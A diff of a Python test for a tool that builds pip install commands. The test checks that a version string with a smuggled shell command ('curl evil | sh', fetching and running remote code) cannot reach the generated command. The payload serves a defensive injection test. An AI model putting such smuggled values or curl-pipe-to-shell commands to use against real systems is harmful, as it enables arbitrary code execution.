@@ -224,8 +224,8 @@ def test_advise_command_is_quoted(name, exe):
 
 
 def test_advise_version_from_snapshot_cannot_reach_the_command():
-    from torch_envcheck import knowledge
-    cmd = knowledge.pip_install_command("python", '2.14.1"; curl evil | sh; "', "cu130")
+    from torch_envcheck.advice import pip_commands
+    cmd = pip_commands.pip_install_command("python", '2.14.1"; curl evil | sh; "', "cu130")
     assert "curl" not in cmd and "'torch==2.14.*'" in cmd
     _check_posix_command(cmd, None)
 
